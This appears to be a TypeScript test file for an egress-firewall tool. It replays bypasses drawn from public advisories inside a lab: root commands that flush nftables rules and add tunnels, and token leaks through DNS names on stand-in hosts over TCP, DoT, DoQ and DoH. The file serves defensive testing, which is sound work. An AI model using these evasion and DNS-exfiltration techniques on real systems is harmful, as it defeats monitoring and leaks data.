// What public advisories of a tool of this kind tell: root on the runner undoes what is there, and DNS goes over TCP,
// TLS, QUIC and HTTPS to a resolver of the job's choice. The one on UDP in audit mode has a test file of its own.

import { dialTcp } from '../../netns/socket.ts';
import type { FlowRecord } from '../../flow/flow.ts';
import type { Lab } from '../lab/lab.ts';
import { labAddresses } from '../lab/origins.ts';
import { knock, sendUdp } from '../lab/packets.ts';
import type { Bypass, Mark } from './bypass.ts';
import type { BypassId } from './catalog.ts';
import { question } from './name-flood.ts';
import { sendFrame } from './raw-frame.ts';
import { sawPacket, target4, tellsOf, type Aim } from './target.ts';

const { resolver4, resolver6 } = labAddresses;
const [tcp, udp] = [6, 17] as const;
const weaker = 'root in the sidecar’s own namespace can undo it: docs/limitations.md says so';

const rootAim = (mark: Mark): Aim => ({ address: target4(mark), protocol: tcp, port: mark.port });
const rootRecord: Pick<Bypass, 'recorded' | 'reasons'> = {
  recorded: (record, mark) =>
    tellsOf(record, rootAim(mark)) || tellsOf(record, { ...rootAim(mark), protocol: udp }),
  reasons: ['no-rule'],
};

/** Everything that root of a container or machine can change for itself. */
function undoAll({ topology }: Lab, mark: Mark): string {
  return [
    'nft flush ruleset 2>/dev/null',
    `ip route replace ${target4(mark)}/32 via ${topology.gateway4} dev eth0`,
    'sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.rp_filter=0',
    'ip addr replace 10.77.3.3/32 dev eth0',
    'ip link add dummy7 type dummy; ip link set dummy7 up',
    `ip tunnel add tun7 mode ipip remote ${target4(mark)} 2>/dev/null`,
  ].join('; ');
}

const root: readonly Bypass[] = [
  {
    id: 'advisory-root',
    run: async (lab, mark) => {
      const { namespace } = lab.runner();
      await lab.run(['sh', '-c', undoAll(lab, mark)]);
      await knock(namespace, target4(mark), mark.port);
      await knock(namespace, target4(mark), mark.port, '10.77.3.3');
      sendUdp(namespace, target4(mark), mark.port, mark.token);
    },
    arrived: (lab, mark) => lab.capture.packets().some(({ destination }) => destination === target4(mark)),
    ...rootRecord,
    notIn: { 'sidecar-nft': weaker },
  },
  {
    id: 'advisory-root',
    how: 'frames made by hand',
    run: (lab, mark) => sendFrame(lab, target4(mark), mark.port),
    arrived: (lab, mark) => sawPacket(lab, { ...rootAim(mark), protocol: udp }),
    ...rootRecord,
    notIn: { 'sidecar-nft': weaker },
  },
  {
    id: 'advisory-root',
    how: 'a resolver of its own',
    run: (lab, { token }) => {
      const server = `${token}.blocked.example.net`;
      lab.origins.names.set(server, { a: [labAddresses.other4] });
      return lab.run(['dig', '+time=2', '+tries=1', `@${resolver4}`, server]);
    },
    arrived: (lab, { token }) => lab.origins.questionsFor(`${token}.blocked.example.net`).length > 0,
    recorded: ({ kind, destination }, { token }) =>
      kind === 'dns' && destination.host === `${token}.blocked.example.net`,
    reasons: ['no-rule'],
  },
];

/** Asks a resolver of the internet over TCP, from the test's own process. */
function askOverTcp(lab: Lab, server: string, name: string): Promise<void> {
  const socket = dialTcp(lab.runner().namespace, server, 53);
  const { promise, resolve } = Promise.withResolvers<void>();
  const timer = setTimeout(resolve, 2000);
  socket.on('error', () => resolve());
  socket.once('data', () => resolve());
  const message = question(name, 1, 7);
  socket.write(Buffer.concat([Buffer.of(0, message.length), message]));
  return promise.finally(() => {
    clearTimeout(timer);
    socket.destroy();
  });
}

const overTcp = (how: string | undefined, server: string): Bypass => ({
  id: 'advisory-dns-tcp',
  ...(how === undefined ? {} : { how }),
  run: (lab, { token }) => askOverTcp(lab, server, `${token}.stolen.example.net`),
  arrived: (lab, { token }) => lab.origins.questionsFor(`${token}.stolen.example.net`).length > 0,
  recorded: ({ destination, dns }, { token }) =>
    dns?.transport === 'tcp' && destination.host === `${token}.stolen.example.net`,
  reasons: ['no-rule'],
});

/** A DNS message with a question, as RFC 8484 puts it into a path. */
const message = question('secret.example.net', 16, 0).toString('base64url');
const sawTarget = (lab: Lab, { token }: Mark): boolean =>
  lab.origins.web.arrived.some(({ target }) => target.includes(token));
const tellsOfPath = ({ kind, http }: FlowRecord, { token }: Mark): boolean =>
  kind === 'request' && (http?.path.includes(token) ?? false);

/** A DNS question within a request to a host that policy allows. */
function onAllowedHost(id: BypassId, how: string | undefined, argumentsOf: (mark: Mark) => string[]): Bypass {
  return {
    id,
    ...(how === undefined ? {} : { how }),
    run: (lab, mark) => lab.curl(['-m', '5', ...argumentsOf(mark)]),
    arrived: sawTarget,
    recorded: tellsOfPath,
    reasons: ['encrypted-dns'],
  };
}

const site = 'https://allowed.example.com';
const mediaType = 'application/dns-message';

const overHttps: readonly Bypass[] = [
  {
    id: 'advisory-doh-name',
    run: (lab, { token }) =>
      lab.curl([
        '-k',
        '-m',
        '4',
        '--resolve',
        `${token}.dns.example.net:443:${resolver4}`,
        `https://${token}.dns.example.net/dns-query?dns=${message}`,
      ]),
    arrived: (lab, { token }) => lab.origins.requestsTo(`${token}.dns.example.net`).length > 0,
    // In steer mode a foreign address is a packet without a name.
    recorded: ({ kind, destination }, { token }) =>
      destination.host === `${token}.dns.example.net` ||
      (kind === 'packet' && destination.address === resolver4 && destination.port === 443),
    reasons: ['no-rule'],
  },
  {
    id: 'advisory-doh-address',
    run: (lab) => lab.curl(['-k', '-m', '4', `https://8.8.4.4/dns-query?dns=${message}`]),
    arrived: (lab) => sawPacket(lab, { address: '8.8.4.4', protocol: tcp, port: 443 }),
    recorded: ({ destination }) => [destination.host, destination.address].includes('8.8.4.4'),
    reasons: ['no-server-name', 'direct-address', 'no-rule'],
  },
  onAllowedHost('advisory-doh-media-type', undefined, ({ token }) => [
    '-H',
    `accept: ${mediaType}`,
    `${site}/${token}`,
  ]),
  onAllowedHost('advisory-doh-media-type', 'POST', ({ token }) => [
    '-H',
    `content-type: ${mediaType}`,
    '--data-binary',
    'x',
    `${site}/${token}`,
  ]),
  onAllowedHost('advisory-doh-media-type', 'in the clear', ({ token }) => [
    '-H',
    `Accept: text/html, Application/DNS-Message`,
    `http://allowed.example.com/${token}`,
  ]),
  onAllowedHost('advisory-doh-path', undefined, ({ token }) => [`${site}/${token}/dns-query?x=1`]),
  onAllowedHost('advisory-doh-path', 'a path of another name', ({ token }) => [
    `${site}/${token}?dns=${message}`,
  ]),
  onAllowedHost('advisory-doh-json', undefined, ({ token }) => [
    `${site}/${token}/resolve?type=TXT&name=c2VjcmV0.example.net`,
  ]),
];

const toResolver = (id: BypassId, how: string | undefined, aim: Aim): Bypass => ({
  id,
  ...(how === undefined ? {} : { how }),
  run: async (lab) => {
    const { namespace } = lab.runner();
    if (aim.protocol === tcp) await knock(namespace, aim.address, aim.port ?? 0);
    else sendUdp(namespace, aim.address, aim.port ?? 0, '\xc0'.repeat(600));
  },
  arrived: (lab) => sawPacket(lab, aim),
  recorded: (record) => tellsOf(record, aim),
  reasons: ['encrypted-dns'],
});

/** Section `advisory` of the list, but for the one on audit mode. */
export const advisoryAttempts: readonly Bypass[] = [
  ...root,
  overTcp(undefined, resolver4),
  overTcp('IPv6', resolver6),
  ...overHttps,
  toResolver('advisory-dot', undefined, { address: resolver4, protocol: tcp, port: 853 }),
  toResolver('advisory-dot', 'IPv6', { address: resolver6, protocol: tcp, port: 853 }),
  toResolver('advisory-doq', undefined, { address: resolver4, protocol: udp, port: 853 }),
  toResolver('advisory-doq', 'IPv6', { address: resolver6, protocol: udp, port: 853 }),
];
